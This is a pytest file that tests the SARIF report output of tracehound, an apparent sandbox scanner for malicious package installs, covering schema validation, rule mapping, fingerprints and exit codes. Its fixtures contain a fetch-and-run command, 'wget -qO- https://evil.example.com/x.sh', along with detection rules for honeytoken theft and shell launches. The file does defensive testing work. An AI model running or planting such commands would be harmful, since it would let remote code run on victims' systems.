"""SARIF 2.1.0, validated against the OASIS schema (tests/report/data/sarif-schema-2.1.0.json)."""

from __future__ import annotations

import json
from pathlib import Path

import jsonschema
import pytest
from report_samples import clean_result, findings_result, hostile_result, inconclusive_result

from tracehound.report import render
from tracehound.report.sarif import FINGERPRINT_KEY

SCHEMA = json.loads((Path(__file__).parent / "data" / "sarif-schema-2.1.0.json").read_text(encoding="utf-8"))


def _sarif(result) -> dict:
    return json.loads(render(result, "sarif"))


def _validate(doc: dict) -> None:
    cls = jsonschema.validators.validator_for(SCHEMA)
    cls.check_schema(SCHEMA)
    cls(SCHEMA, format_checker=cls.FORMAT_CHECKER).validate(doc)


@pytest.mark.parametrize("make", [findings_result, clean_result, inconclusive_result, hostile_result],
                         ids=lambda f: f.__name__)
def test_valid_against_the_official_schema(make):
    _validate(_sarif(make()))


def test_the_validator_bites():
    doc = _sarif(findings_result())
    doc["runs"][0]["results"][0]["level"] = "fatal"  # not a SARIF level
    with pytest.raises(jsonschema.ValidationError):
        _validate(doc)


def test_log_and_tool():
    doc = _sarif(findings_result())
    assert doc["version"] == "2.1.0"
    assert doc["$schema"] == "https://docs.oasis-open.org/sarif/sarif/v2.1.0/errata01/os/schemas/sarif-schema-2.1.0.json"
    assert len(doc["runs"]) == 1
    driver = doc["runs"][0]["tool"]["driver"]
    assert driver["name"] == "tracehound"
    assert driver["version"] == "0.1.0"
    assert driver["informationUri"].startswith("https://")


def test_one_rule_per_fired_rule():
    rules = _sarif(findings_result())["runs"][0]["tool"]["driver"]["rules"]
    # ids are slugs of the five distinct rule names, in id order
    assert [r["id"] for r in rules] == [
        "dns-query-with-encoded-data",
        "honeytoken-exfiltrated",
        "launch-shell-from-package-code",
        "process-survived-phase-end",
        "unexpected-outbound-connection-destination",
    ]
    by_id = {r["id"]: r for r in rules}
    # Warning -> warning, Critical/Error -> error, Notice/Informational -> note
    assert {i: r["defaultConfiguration"]["level"] for i, r in by_id.items()} == {
        "dns-query-with-encoded-data": "warning",
        "honeytoken-exfiltrated": "error",
        "launch-shell-from-package-code": "error",
        "process-survived-phase-end": "note",
        "unexpected-outbound-connection-destination": "note",
    }
    honey = by_id["honeytoken-exfiltrated"]
    assert honey["name"] == "Honeytoken exfiltrated"
    assert honey["shortDescription"] == {"text": "Honeytoken exfiltrated"}
    assert honey["fullDescription"] == {"text": "A planted credential left the sandbox."}  # from ruleset
    assert honey["help"]["text"]
    assert honey["properties"]["tags"] == [
        "T1041", "T1552", "honeytoken", "mitre_credential_access", "mitre_exfiltration", "security"]
    assert "Falco rule" in by_id["dns-query-with-encoded-data"]["fullDescription"]["text"]


def test_results_point_at_the_dependency():
    run = _sarif(findings_result())["runs"][0]
    results = run["results"]
    assert len(results) == 6
    first = results[0]
    assert first["ruleId"] == "unexpected-outbound-connection-destination"
    assert run["tool"]["driver"]["rules"][first["ruleIndex"]]["id"] == first["ruleId"]
    assert first["level"] == "note"
    assert first["message"]["text"] == (
        "10:00:20.123456789: Notice Disallowed outbound connection destination "
        "(command=wget -qO- https://evil.example.com/x.sh connection=10.200.0.2:54865->203.0.113.7:443 "
        "user=root container_id=th-0f8e4c2a container_name=tracehound-0f8e4c2a) "
        "(package: npm:evil-postinstall@1.0.3; phase: install)"
    )
    physical = first["locations"][0]["physicalLocation"]
    assert physical == {
        "artifactLocation": {"uri": "package-lock.json", "uriBaseId": "%SRCROOT%"},
        "region": {"startLine": 42},
    }
    assert first["properties"]["package"] == {"name": "evil-postinstall", "version": "1.0.3", "ecosystem": "npm"}
    assert first["properties"]["phase"] == "install"
    assert first["properties"]["evidence"]["command"] == "wget -qO- https://evil.example.com/x.sh"
    assert "payload_excerpt" not in first["properties"]["evidence"]  # empty evidence fields are left out

    honey = results[2]
    assert honey["level"] == "error"
    assert honey["properties"]["evidence"]["honeytoken"] == "npm_token"

    # lodahs has no declaration line: the project's lockfile, without a region
    dns = results[3]
    assert dns["level"] == "warning"
    assert dns["locations"][0]["physicalLocation"] == {
        "artifactLocation": {"uri": "package-lock.json", "uriBaseId": "%SRCROOT%"}}

    unattributed = results[5]
    assert unattributed["message"]["text"].endswith("(package: unattributed; phase: import)")
    assert unattributed["properties"]["package"] is None
    assert unattributed["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "package-lock.json"


def test_fingerprints_are_stable_and_follow_the_finding():
    a = _sarif(findings_result())["runs"][0]["results"]
    b = _sarif(findings_result())["runs"][0]["results"]
    fps = [r["partialFingerprints"][FINGERPRINT_KEY] for r in a]
    assert fps == [r["partialFingerprints"][FINGERPRINT_KEY] for r in b]
    assert len(set(fps)) == 6
    assert all(len(fp) == 64 and int(fp, 16) >= 0 for fp in fps)

    # the same behaviour in a later scan: other time, pid and payload bytes -> same fingerprint
    later = findings_result()
    alert = later.alerts[0]
    alert.time = "2026-12-01T08:00:00.000000001Z"
    alert.output_fields["proc.pid"] = 999
    alert.evidence.payload_excerpt = "different bytes"
    assert _sarif(later)["runs"][0]["results"][0]["partialFingerprints"][FINGERPRINT_KEY] == fps[0]

    # a different command is a different finding
    alert.evidence.command = "wget -qO- https://evil.example.com/other.sh"
    assert _sarif(later)["runs"][0]["results"][0]["partialFingerprints"][FINGERPRINT_KEY] != fps[0]


def test_invocation_tells_whether_the_scan_concluded():
    inv = _sarif(findings_result())["runs"][0]["invocations"][0]
    assert inv["executionSuccessful"] is True
    assert inv["exitCode"] == 1
    assert inv["startTimeUtc"] == "2026-11-26T10:00:00.000000000Z"
    assert "toolExecutionNotifications" not in inv

    run = _sarif(inconclusive_result())["runs"][0]
    inv = run["invocations"][0]
    assert inv["executionSuccessful"] is False
    assert inv["exitCode"] == 2
    assert [n["message"]["text"] for n in inv["toolExecutionNotifications"]] == [
        "install phase timed out after 600 s",
        "312 events were lost during install (capture buffer overflow)",
    ]
    assert {n["level"] for n in inv["toolExecutionNotifications"]} == {"error"}
    assert run["properties"]["verdict"] == "inconclusive"
    assert run["results"] == []


def test_clean_result_has_no_rules_or_results():
    run = _sarif(clean_result())["runs"][0]
    assert run["tool"]["driver"]["rules"] == []
    assert run["results"] == []
    assert run["invocations"][0]["exitCode"] == 0


def test_manifest_paths_become_relative_uris():
    result = findings_result()
    result.packages[0].manifest = "./web app/package-lock.json"
    loc = _sarif(result)["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]
    assert loc == {"uri": "web%20app/package-lock.json", "uriBaseId": "%SRCROOT%"}
